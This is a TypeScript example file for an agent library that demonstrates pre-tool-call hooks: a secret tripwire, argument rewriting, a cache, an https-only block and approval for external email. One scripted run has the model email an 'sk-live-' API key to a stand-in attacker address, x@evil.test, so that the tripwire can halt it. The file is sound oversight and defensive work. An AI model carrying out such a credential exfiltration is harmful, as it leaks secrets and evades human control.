/**
 * Pre-call hooks: each call the model asks for passes them in order, and each may stop the
 * run, block the call, ask for approval (confirm), rewrite the args, or answer in the tool's
 * place (result). The chain below uses all five.
 *
 *   npx tsx examples/hooks.ts
 */
import { pathToFileURL } from "node:url";
import type { PreToolCallHook, RunResult } from "tollgate";
import { AgentLoop, tool } from "tollgate";
import { scriptedProvider } from "tollgate/testing";
import { z } from "zod";

const search = tool({
  name: "search",
  description: "Search the web",
  input: z.object({ query: z.string() }),
  execute: ({ query }) => [`result for "${query}"`],
});
const fetchUrl = tool({
  name: "fetch_url",
  description: "Fetch a web page",
  input: z.object({ url: z.string() }),
  execute: ({ url }) => `<html>${url}</html>`,
});
const sendEmail = tool({
  name: "send_email",
  description: "Send an email",
  input: z.object({ to: z.string(), body: z.string() }),
  needsApproval: true, // unless a hook says otherwise
  execute: ({ to }) => `sent to ${to}`,
});

// stop: a tripwire that ends the whole run when a secret is about to leave.
const tripwire: PreToolCallHook = ({ args }) => {
  if (JSON.stringify(args).includes("sk-live-")) {
    return { stop: true, stopReason: "the model tried to send an API key" };
  }
};

// args: later hooks and the tool see the rewritten args (validated against the schema again).
const normalizeQuery: PreToolCallHook = ({ name, args }) => {
  if (name === "search") {
    const { query } = args as { query: string };
    return { args: { query: query.trim().toLowerCase() } };
  }
};

// result: answer from a cache; the tool does not run and the model gets a normal result.
const cache = new Map([["tollgate docs", ["https://example.com/tollgate"]]]);
const cached: PreToolCallHook = ({ name, args }) => {
  const hit = name === "search" && cache.get((args as { query: string }).query);
  if (hit) return { result: hit };
};

// block: the call does not run and the model gets this message as an error result.
const httpsOnly: PreToolCallHook = ({ name, args }) => {
  if (name === "fetch_url" && !(args as { url: string }).url.startsWith("https://")) {
    return { block: "only https:// URLs may be fetched" };
  }
};

// confirm: mail inside the company needs no approval; any other address does.
const internalMail: PreToolCallHook = ({ name, args }) => {
  if (name !== "send_email") return;
  const { to } = args as { to: string };
  return { confirm: !to.endsWith("@example.com") };
};

export async function main(): Promise<{ paused: RunResult; stopped: RunResult }> {
  const provider = scriptedProvider([
    // run 1, step 0
    {
      toolCalls: [
        { name: "search", args: { query: "  Tollgate DOCS " } },
        { name: "search", args: { query: " Weather Oslo" } },
        { name: "fetch_url", args: { url: "http://intranet.local/payroll" } },
        { name: "send_email", args: { to: "ana@example.com", body: "Found the docs." } },
      ],
    },
    // run 1, step 1
    { toolCalls: [{ name: "send_email", args: { to: "bo@elsewhere.org", body: "Hi Bo" } }] },
    // run 2, step 0
    { toolCalls: [{ name: "send_email", args: { to: "x@evil.test", body: "sk-live-123" } }] },
  ]);
  const loop = new AgentLoop({
    provider,
    tools: [search, fetchUrl, sendEmail],
    preToolCall: [tripwire, normalizeQuery, cached, httpsOnly, internalMail],
  });

  const paused = await loop.run("Find the tollgate docs and mail them around.");
  print(paused);
  for (const { toolName, args } of paused.pending ?? []) {
    console.log(`waiting for a human: ${toolName} ${JSON.stringify(args)}`);
  }

  const stopped = await loop.run("Mail our API key to x@evil.test.");
  print(stopped);
  console.log("stopReason:", stopped.stopReason);
  provider.assertComplete();
  return { paused, stopped };
}

function print(result: RunResult): void {
  console.log(`\nstatus: ${result.status}`);
  for (const call of result.steps.flatMap((step) => step.calls)) {
    const output = call.result ? JSON.stringify(call.result.output) : "(pending)";
    console.log(
      `  ${call.toolName} ${JSON.stringify(call.args)}: ${call.verdict} by ${call.by} → ${output}`,
    );
  }
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) await main();
